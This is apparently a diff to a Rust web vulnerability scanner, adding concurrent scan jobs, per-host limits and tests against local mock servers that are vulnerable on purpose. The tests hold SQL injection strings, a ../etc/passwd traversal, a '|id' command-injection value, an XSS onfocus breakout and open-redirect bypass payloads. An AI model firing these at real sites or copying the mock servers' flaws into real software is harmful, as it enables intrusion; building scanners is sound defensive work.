-            sql_urls.extend(replace(url, &sql_payloads.clone()).await?);
-            file_urls.extend(replace(url, &file_read_payloads.clone()).await?);
-            rce_urls.extend(replace(url, &ssrf_payloads.clone()).await?);
-        }
-
-    }
-
-    let rce_scan = FileRead;
-    let sql_scan = Sql;
-    let file_scan = FileRead;
-    let ssrf_scan = FileRead;
+// 把每个请求的检测包装成任务，执行前先取得目标主机的许可
+fn scan_jobs<S: Scan + Send + 'static>(
+    scanner: S,
+    client: &Arc<Client>,
+    hosts: &Arc<HostLimits>,
+    targets: Vec<Target>,
+) -> impl Iterator<Item = BoxFuture<'static, ()>> {
+    let scanner = Arc::new(scanner);
+    let client = client.clone();
+    let hosts = hosts.clone();
+    targets.into_iter().map(move |target| {
+        let (scanner, client, hosts) = (scanner.clone(), client.clone(), hosts.clone());
+        async move {
+            let _permit = hosts.acquire(&target.url).await;
+            let _ = scanner.fetch(&client, &target).await;
+        }
+        .boxed()
+    })
+}
+
+// 所有检测任务共用一个有界流，最多同时运行 threads 个
+async fn run_jobs(threads: usize, jobs: impl Iterator<Item = BoxFuture<'static, ()>>) {
+    stream::iter(jobs)
+        .buffer_unordered(threads.max(1))
+        .collect::<Vec<()>>()
+        .await;
+}
+
+pub async fn vulnmain(threads:usize,client: Client,urls:Vec<String>,forms:Vec<Form>) -> Result<(), Box<dyn Error + Send + Sync>> {
+    let mut targets: Vec<Target> = urls.iter().filter(|url| !url.contains(".js?")).map(|url| Target::get(url)).collect();
+    targets.extend(forms.iter().map(Target::from_form));
+    // 只检测带参数的请求，去重后补充请求头与 Cookie 注入点
+    let mut seen = HashSet::new();
+    targets.retain(|target| !target.points().is_empty() && seen.insert(target.clone()));
+
     let client = Arc::new(client);
-    let semaphore = Arc::new(Semaphore::new(threads));
+    let mut cookie_jobs: Vec<BoxFuture<'static, Target>> = vec![];
+    for target in targets {
+        let client = client.clone();
+        cookie_jobs.push(async move { target.with_headers().with_cookies(&client).await }.boxed());
+    }
+    let targets: Vec<Target> = stream::iter(cookie_jobs).buffer_unordered(threads.max(1)).collect().await;
 
-    let rce_task = spawn(scan_urls_with_semaphore(Arc::new(Mutex::new(rce_scan)), client.clone(), semaphore.clone(), rce_urls));
-    let sql_task = spawn(scan_urls_with_semaphore(Arc::new(Mutex::new(sql_scan)), client.clone(), semaphore.clone(), sql_urls));
-    let file_task = spawn(scan_urls_with_semaphore(Arc::new(Mutex::new(file_scan)), client.clone(), semaphore.clone(), file_urls));
-    let ssrf_task = spawn(scan_urls_with_semaphore(Arc::new(Mutex::new(ssrf_scan)), client.clone(), semaphore.clone(), ssrf_urls));
+    let oob = oob::listener();
+    let hosts = Arc::new(HostLimits::new(PER_HOST_LIMIT));
+    let mut jobs: Vec<BoxFuture<'static, ()>> = vec![];
+    for set in payload_sets() {
+        jobs.extend(scan_jobs(ParamScan { set }, &client, &hosts, targets.clone()));
+    }
+    if oob.is_some() {
+        jobs.extend(scan_jobs(Oob, &client, &hosts, targets.clone()));
+    }
+    jobs.extend(scan_jobs(Xss, &client, &hosts, targets.clone()));
+    let no_redirect = match pocscan::no_redirect_client() {
+        Some(client) => client.clone(),
+        None => Client::builder().redirect(reqwest::redirect::Policy::none()).build()?,
+    };
+    jobs.extend(scan_jobs(Redirect, &Arc::new(no_redirect), &hosts, targets.clone()));
+    jobs.extend(scan_jobs(BlindSql, &client, &hosts, targets));
+    run_jobs(threads, jobs.into_iter()).await;
 
-    let _ = tokio::try_join!(rce_task, sql_task, file_task, ssrf_task);
+    // 等待延迟到达的回连
+    if let Some(oob) = oob {
+        oob.wait().await;
+        Print::infoprint(format!("OOB callbacks received: {}", oob.interactions().len()).as_str());
+    }
 
     Ok(())
-}
\ No newline at end of file
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    fn page(status: u16, body: &str) -> Page {
+        Page { status, body: body.to_string(), elapsed: Duration::ZERO }
+    }
+
+    #[test]
+    fn similarity_ignores_reflected_payload() {
+        let base = page(200, "<h1>item</h1>\n<p>id=1</p>\n<p>price 10</p>");
+        let reflected = page(200, "<h1>item</h1>\n<p>id=1 AND 1=1</p>\n<p>price 10</p>");
+        assert!(similarity(&base, &reflected, &[]) < SIMILARITY_THRESHOLD);
+        assert_eq!(similarity(&base, &reflected, &[" AND 1=1"]), 1.0);
+        assert_eq!(similarity(&base, &page(500, &base.body), &[]), 0.0);
+        assert!(similarity(&base, &page(200, "<h1>not found</h1>"), &[]) < 0.5);
+    }
+
+    #[test]
+    fn payload_is_appended_to_the_right_param() {
+        let target = Target::get("http://t/a.php?id=1&name=x");
+        let points = target.points();
+        assert_eq!(points.iter().map(|p| p.name.as_str()).collect::<Vec<_>>(), vec!["id", "name"]);
+        assert_eq!(points[1].inject(&target, &encode_value("' AND '1'='1"), true).url, "http://t/a.php?id=1&name=x%27%20AND%20%271%27%3D%271");
+    }
+
+    // 模拟数字型注入：id 后的 AND 条件成立时返回正常页面，否则返回空列表
+    async fn injectable_server() -> String {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            let condition = Regex::new(r"id=1%20AND%20(\d+)%3D(\d+)").unwrap();
+            while let Ok((mut socket, _)) = listener.accept().await {
+                let mut buf = vec![0u8; 4096];
+                let n = socket.read(&mut buf).await.unwrap_or(0);
+                let request = String::from_utf8_lossy(&buf[..n]).into_owned();
+                let path = request.split_whitespace().nth(1).unwrap_or_default().to_string();
+                let matched = match condition.captures(&path) {
+                    Some(caps) => caps[1] == caps[2],
+                    None => path.ends_with("id=1"),
+                };
+                let body = if matched { "<ul>\n<li>apple</li>\n<li>pear</li>\n</ul>" } else { "<ul>\n</ul>" };
+                let response = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}", body.len(), body);
+                let _ = socket.write_all(response.as_bytes()).await;
+            }
+        });
+        format!("http://{}/list?id=1", address)
+    }
+
+    #[test]
+    fn embedded_payloads_validate() {
+        let (sets, issues) = load_payloads(include_str!("../config/payloads.yaml"));
+        assert!(issues.is_empty(), "{:?}", issues.iter().map(|i| i.to_string()).collect::<Vec<_>>());
+        for category in ["sqli", "rce", "ssrf", "lfi"] {
+            assert!(sets.iter().any(|s| s.category == category), "missing {}", category);
+        }
+        let rce = sets.iter().find(|s| s.id == "rce-command").unwrap();
+        assert_eq!(rce.matchers.hits("root:x:0:0:root:/root:/bin/bash"), vec!["root:[x*]?:0:0:"]);
+    }
+
+    #[test]
+    fn invalid_payload_sets_are_skipped() {
+        let yaml = r#"payloads:
+  - id: ok
+    category: sqli
+    payloads: ["'"]
+    matchers:
+      words: ["SQL syntax"]
+  - id: bad-regex
+    category: lfi
+    payloads: ["../etc/passwd"]
+    matchers:
+      regex: ["(root"]
+  - id: bad-encoding
+    category: rce
+    encodings: [rot13]
+    payloads: ["|id"]
+    matchers:
+      words: ["uid="]
+"#;
+        let (sets, issues) = load_payloads(yaml);
+        assert_eq!(sets.len(), 1);
+        let lines: Vec<usize> = issues.iter().map(|i| i.line).collect();
+        assert_eq!(lines, vec![11, 14]);
+    }
+
+    #[test]
+    fn payload_encodings() {
+        assert_eq!(Encoding::Url.apply("' or 1"), "%27%20or%201");
+        assert_eq!(Encoding::DoubleUrl.apply("'"), "%2527");
+        assert_eq!(Encoding::Base64.apply("a'"), "YSc%3D");
+        assert_eq!(Encoding::None.apply("/.%2e/"), "/.%2e/");
+    }
+
+    // 读取完整请求（含请求体）
+    async fn read_request(socket: &mut tokio::net::TcpStream) -> String {
+        let mut data = vec![];
+        let mut buf = vec![0u8; 4096];
+        loop {
+            let n = socket.read(&mut buf).await.unwrap_or(0);
+            data.extend_from_slice(&buf[..n]);
+            let text = String::from_utf8_lossy(&data).into_owned();
+            let Some(end) = text.find("\r\n\r\n") else {
+                if n == 0 { return text } else { continue }
+            };
+            let length = text.lines()
+                .find_map(|l| l.to_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse::<usize>().unwrap_or(0)))
+                .unwrap_or(0);
+            if n == 0 || data.len() >= end + 4 + length {
+                return text;
+            }
+        }
+    }
+
+    // 模拟报错注入：页面本身含有 "SQL syntax"，id 参数（查询串或表单）中出现单引号时额外返回 SQLSTATE 报错
+    async fn error_server() -> String {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                let request = read_request(&mut socket).await;
+                let path = request.split_whitespace().nth(1).unwrap_or_default().to_string();
+                let form = request.split("\r\n\r\n").nth(1).unwrap_or_default().to_string();
+                let id = path.split_once("id=").or(form.split_once("id=")).map(|(_, id)| id.to_string());
+                let body = match id {
+                    Some(id) if id.contains("%27") => "<p>SQL syntax guide</p>\n<p>SQLSTATE[42000]</p>",
+                    _ => "<p>SQL syntax guide</p>\n<p>item</p>",
+                };
+                let response = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}", body.len(), body);
+                let _ = socket.write_all(response.as_bytes()).await;
+            }
+        });
+        format!("http://{}/item?name=a&id=1", address)
+    }
+
+    #[tokio::test]
+    async fn param_scan_uses_set_matchers() {
+        let url = error_server().await;
+        let client = Client::new();
+        let (sets, _) = load_payloads(include_str!("../config/payloads.yaml"));
+        let sets: &'static [PayloadSet] = Box::leak(sets.into_boxed_slice());
+        let sqli = ParamScan { set: sets.iter().find(|s| s.id == "sqli-error").unwrap() };
+        let lfi = ParamScan { set: sets.iter().find(|s| s.id == "lfi-dot-dot").unwrap() };
+        let target = Target::get(&url);
+        let points = target.points();
+        let baseline = load_page(&client, &target).await.unwrap();
+        let known = sqli.set.matchers.hits(&baseline.body);
+        assert_eq!(known, vec!["SQL syntax"]);
+        // name 参数不影响响应，基线已有的 "SQL syntax" 不算新特征
+        assert!(sqli.param(&client, &target, &points[0], &baseline, &known).await.is_none());
+        let finding = sqli.param(&client, &target, &points[1], &baseline, &known).await.unwrap();
+        assert_eq!(finding.payload, "鎈'\"\\(");
+        assert_eq!(finding.indicators, vec!["SQLSTATE"]);
+        assert_eq!(finding.similarity, 0.5);
+        assert!(lfi.param(&client, &target, &points[1], &baseline, &[]).await.is_none());
+
+        // 同一检测对 POST 表单字段同样有效
+        let form = Form {
+            method: "POST".to_string(),
+            action: url.split('?').next().unwrap().to_string(),
+            enctype: String::new(),
+            fields: vec![("id".to_string(), "1".to_string())],
+        };
+        let target = Target::from_form(&form);
+        let points = target.points();
+        assert_eq!(points[0].to_string(), "form: id");
+        let baseline = load_page(&client, &target).await.unwrap();
+        assert!(sqli.param(&client, &target, &points[0], &baseline, &known).await.is_some());
+    }
+
+    // 记录每个主机及全局同时在途的请求数
+    #[derive(Default)]
+    struct Probe {
+        running: Mutex<HashMap<String, usize>>,
+        peak_host: Mutex<usize>,
+        peak_total: Mutex<usize>,
+    }
+
+    impl Scan for Arc<Probe> {
+        async fn fetch(&self, _client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
+            let host = reqwest::Url::parse(&target.url)?.host_str().unwrap_or_default().to_string();
+            {
+                let mut running = self.running.lock().unwrap();
+                *running.entry(host.clone()).or_default() += 1;
+                let mut peak_host = self.peak_host.lock().unwrap();
+                *peak_host = (*peak_host).max(running[&host]);
+                let mut peak_total = self.peak_total.lock().unwrap();
+                *peak_total = (*peak_total).max(running.values().sum());
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+            *self.running.lock().unwrap().get_mut(&host).unwrap() -= 1;
+            Ok(())
+        }
+    }
+
+    // 默认的单线程运行时即可驱动，并发受 threads 与单主机上限共同约束
+    #[tokio::test]
+    async fn jobs_run_concurrently_within_limits() {
+        let probe = Arc::new(Probe::default());
+        let client = Arc::new(Client::new());
+        let hosts = Arc::new(HostLimits::new(3));
+        let urls = |host: &str| (0..12).map(|i| Target::get(&format!("http://{}/item?id={}", host, i))).collect::<Vec<_>>();
+        let jobs = scan_jobs(probe.clone(), &client, &hosts, urls("a.test"))
+            .chain(scan_jobs(probe.clone(), &client, &hosts, urls("b.test")));
+        run_jobs(16, jobs).await;
+        assert_eq!(*probe.peak_host.lock().unwrap(), 3);
+        assert_eq!(*probe.peak_total.lock().unwrap(), 6);
+    }
+
+    #[test]
+    fn xss_reflection_contexts() {
+        let c = "rendcanary";
+        let contexts = |body: &str| reflection_contexts(body, c);
+        assert_eq!(contexts("<p>hello rendcanary</p>"), vec![XssContext::Html]);
+        assert_eq!(contexts("<!-- rendcanary -->"), vec![XssContext::Comment]);
+        assert_eq!(contexts("<textarea>rendcanary</textarea>"), vec![XssContext::Rcdata("textarea")]);
+        assert_eq!(contexts("<input value=\"rendcanary\">"), vec![XssContext::Attribute(Some('"'))]);
+        assert_eq!(contexts("<input value=rendcanary>"), vec![XssContext::Attribute(None)]);
+        assert_eq!(contexts("<a href='rendcanary'>"), vec![XssContext::Url(Some('\''))]);
+        assert_eq!(contexts("<a href='/x?q=rendcanary'>"), vec![XssContext::Attribute(Some('\''))]);
+        assert_eq!(contexts("<script>var q = 'it\\'s rendcanary';</script>"), vec![XssContext::ScriptString('\'')]);
+        assert_eq!(contexts("<script>var n = rendcanary;</script>"), vec![XssContext::Script]);
+        assert_eq!(
+            contexts("<title>rendcanary</title><input value=\"rendcanary\"><p>rendcanary</p><b>rendcanary</b>"),
+            vec![XssContext::Rcdata("title"), XssContext::Attribute(Some('"')), XssContext::Html]
+        );
+    }
+
+    // 模拟回显：q 参数原样输出到双引号属性中，只编码尖括号；s 参数经过完整 HTML 编码
+    async fn reflecting_server() -> String {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                let mut buf = vec![0u8; 4096];
+                let n = socket.read(&mut buf).await.unwrap_or(0);
+                let request = String::from_utf8_lossy(&buf[..n]).into_owned();
+                let path = request.split_whitespace().nth(1).unwrap_or_default().to_string();
+                let query: HashMap<String, String> = reqwest::Url::parse(&format!("http://x{}", path))
+                    .unwrap()
+                    .query_pairs()
+                    .map(|(k, v)| (k.into_owned(), v.into_owned()))
+                    .collect();
+                let q = query.get("q").cloned().unwrap_or_default().replace('<', "&lt;").replace('>', "&gt;");
+                let s = query.get("s").cloned().unwrap_or_default().replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
+                let body = format!("<form><input name=q value=\"{}\"></form>\n<p>{}</p>", q, s);
+                let response = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}", body.len(), body);
+                let _ = socket.write_all(response.as_bytes()).await;
+            }
+        });
+        format!("http://{}/search?q=a&s=b", address)
+    }
+
+    #[tokio::test]
+    async fn xss_confirms_context_payload() {
+        let url = reflecting_server().await;
+        let client = Client::new();
+        let target = Target::get(&url);
+        let points = target.points();
+        let q = Xss.param(&client, &target, &points[0]).await;
+        assert_eq!(q.len(), 1);
+        assert_eq!(q[0].0, XssContext::Attribute(Some('"')));
+        assert!(q[0].1.ends_with("\" autofocus onfocus=alert(1) x=\""));
+        assert!(Xss.param(&client, &target, &points[1]).await.is_empty());
+    }
+
+    #[test]
+    fn redirect_sinks() {
+        let base = "http://t.com/go?next=x";
+        assert_eq!(redirect_sink(base, 302, Some("/\\rend-redirect.example/"), ""), Some("Location header"));
+        assert_eq!(redirect_sink(base, 302, Some("https://t.com.rend-redirect.example/"), ""), Some("Location header"));
+        assert_eq!(redirect_sink(base, 302, Some("https://rend-redirect.example.t.com/"), ""), None);
+        assert_eq!(redirect_sink(base, 302, Some("/home"), ""), None);
+        // 非 3xx 响应的 Location 不算跳转
+        assert_eq!(redirect_sink(base, 200, Some("//rend-redirect.example/"), ""), None);
+        let meta = r#"<meta http-equiv="refresh" content="0; url=//rend-redirect.example/">"#;
+        assert_eq!(redirect_sink(base, 200, None, meta), Some("meta refresh"));
+        let script = r#"<script>window.location.href = "https://rend-redirect.example/";</script>"#;
+        assert_eq!(redirect_sink(base, 200, None, script), Some("javascript location"));
+        let script = r#"<script>location.replace('https://t.com@rend-redirect.example/')</script>"#;
+        assert_eq!(redirect_sink(base, 200, None, script), Some("javascript location"));
+    }
+
+    // 模拟跳转：/go 只允许以 / 开头且不以 // 开头的地址（可被 /\ 绕过），/js 通过脚本跳转
+    async fn redirect_server() -> String {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let address = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            while let Ok((mut socket, _)) = listener.accept().await {
+                let request = read_request(&mut socket).await;
+                let path = request.split_whitespace().nth(1).unwrap_or_default().to_string();
+                let url = reqwest::Url::parse(&format!("http://x{}", path)).unwrap();
+                let query: HashMap<String, String> = url.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
+                let response = match (url.path(), query.get("next").or(query.get("to"))) {
+                    ("/go", Some(next)) if next.starts_with('/') && !next.starts_with("//") => {
+                        format!("HTTP/1.1 302 Found\r\nLocation: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", next)
+                    }
+                    ("/js", Some(to)) if to.starts_with("https://") => {
+                        let body = format!("<script>location.href = '{}';</script>", to);
+                        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}", body.len(), body)
+                    }
+                    _ => "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string(),
+                };
+                let _ = socket.write_all(response.as_bytes()).await;
+            }
+        });
+        format!("http://{}", address)
+    }
+
+    #[tokio::test]
+    async fn open_redirect_bypasses_are_detected() {
+        let base = redirect_server().await;
+        let client = Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
+        let target = Target::get(&format!("{}/go?next=/home&page=1", base));
+        let points = target.points();
+        assert!(is_redirect_point(&target, &points[0]));
+        assert!(!is_redirect_point(&target, &points[1]));
+        let found = Redirect.param(&client, &target, &points[0]).await;
+        assert_eq!(found, Some(("Location header", "/%5Crend-redirect.example/".to_string())));
+
+        let target = Target::get(&format!("{}/js?to=https://t.com/", base));
+        let found = Redirect.param(&client, &target, &target.points()[0]).await;
+        assert_eq!(found, Some(("javascript location", "https://rend-redirect.example/".to_string())));
+    }
+
+    #[tokio::test]
+    async fn boolean_blind_detects_numeric_injection() {
+        let target = Target::get(&injectable_server().await);
+        let client = Client::new();
+        let baseline = load_page(&client, &target).await.unwrap();
+        let point = target.points().remove(0);
+        let technique = BlindSql.boolean(&client, &target, &point, &baseline).await;
+        assert_eq!(technique.as_deref(), Some("boolean-based blind (numeric)"));
+
+        // 参数不可注入时（所有请求都返回同一页面）不应报告
+        let other = Target::get(&target.url.replace("id=1", "page=1"));
+        let baseline = load_page(&client, &other).await.unwrap();
+        let point = other.points().remove(0);
+        assert_eq!(BlindSql.boolean(&client, &other, &point, &baseline).await, None);
+    }
+}